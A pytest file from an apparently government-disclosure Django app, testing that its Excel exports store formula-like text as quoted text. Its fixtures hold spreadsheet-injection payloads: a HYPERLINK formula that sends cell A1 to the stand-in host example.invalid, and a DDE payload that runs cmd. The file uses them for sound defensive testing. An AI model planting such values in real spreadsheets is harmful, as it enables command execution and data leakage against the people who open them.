"""No text gongkai writes into a spreadsheet runs as a formula (issue 24 point 12): a matter,
a document title or an agency's name that starts with = + - @ is written as text with the
quote prefix, whichever export writes it — all of them save through gongkai/core/xlsx.py."""

import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

import gongkai
from gongkai.standards import xlsx
from tests.policies.conftest import registered
from tests.standards.test_xlsx import PUBLISHED

pytestmark = pytest.mark.django_db
# what a hostile or careless cell says: a link that runs, DDE, and arithmetic on edit
HOSTILE = {
    "content": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "basis": "+cmd|' /C calc'!A0",
    "subject": "-2+3",
    "channels": "@SUM(1+1)",
}


def _as_text_workbook(rows) -> bytes:
    """The county's file, every cell typed as text (as Excel keeps a cell typed with ')."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    for cells in book.active.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _text_cells(data: bytes) -> dict[str, tuple[str, bool]]:
    """Every string-looking cell of every sheet: value → (type, quote prefix)."""
    found = {}
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str):
                    found[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return found


def test_the_standard_catalogue_export_writes_formula_like_text_as_text(township, clerk):
    row = list(PUBLISHED[2])
    row[4], row[5], row[7], row[8] = (
        HOSTILE["content"],
        HOSTILE["basis"],
        HOSTILE["subject"],
        HOSTILE["channels"],
    )
    data = _as_text_workbook([PUBLISHED[0], PUBLISHED[1], row])
    xlsx.import_matters(data, "目录.xlsx", by=clerk, agency=township, on=date(2025, 4, 1))
    cells = _text_cells(xlsx.export_agency(township))
    for value in HOSTILE.values():
        assert cells[value] == ("s", True), value


def test_the_policy_library_export_writes_formula_like_titles_as_text(client, township, clerk):
    from gongkai.catalogue.models import Category
    from gongkai.catalogue.subjects import seed_statutory_subjects
    from gongkai.core.models import User

    seed_statutory_subjects(Category)
    reviewer = User.objects.get(username="shenhe")
    title = '=HYPERLINK("http://example.invalid","办法")'
    registered(
        township, clerk, reviewer, title, effective=date(2026, 1, 5), number="@青政规〔2026〕1号"
    )
    response = client.get(reverse("portal:policy_library_xlsx", args=[township.index_prefix]))
    cells = _text_cells(response.content)
    assert cells[title] == ("s", True)
    assert cells["@青政规〔2026〕1号"] == ("s", True)


def test_every_spreadsheet_writer_saves_through_the_one_helper():
    """A new export that builds a Workbook and saves it itself would skip the rule."""
    root = Path(gongkai.__file__).parent
    writers, bypassing = [], []
    for path in root.rglob("*.py"):
        if path.parts[-2:] == ("core", "xlsx.py"):
            continue
        text = path.read_text()
        if re.search(r"\bWorkbook\(", text):
            writers.append(path.relative_to(root).as_posix())
            if "workbook_bytes(" not in text or re.search(r"\bbook\.save\(", text):
                bypassing.append(path.relative_to(root).as_posix())
    assert len(writers) >= 6, writers
    assert bypassing == []


def test_every_download_goes_out_through_the_one_response():
    """Issue 22 consolidation 7: the file name, inline-or-attachment and streaming are decided
    in gongkai/core/http.py alone; a module that sets Content-Disposition itself would not."""
    root = Path(gongkai.__file__).parent
    own = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if path.parts[-2:] != ("core", "http.py")
        and re.search(r"Content-Disposition|FileResponse\(", path.read_text())
    ]
    assert own == []
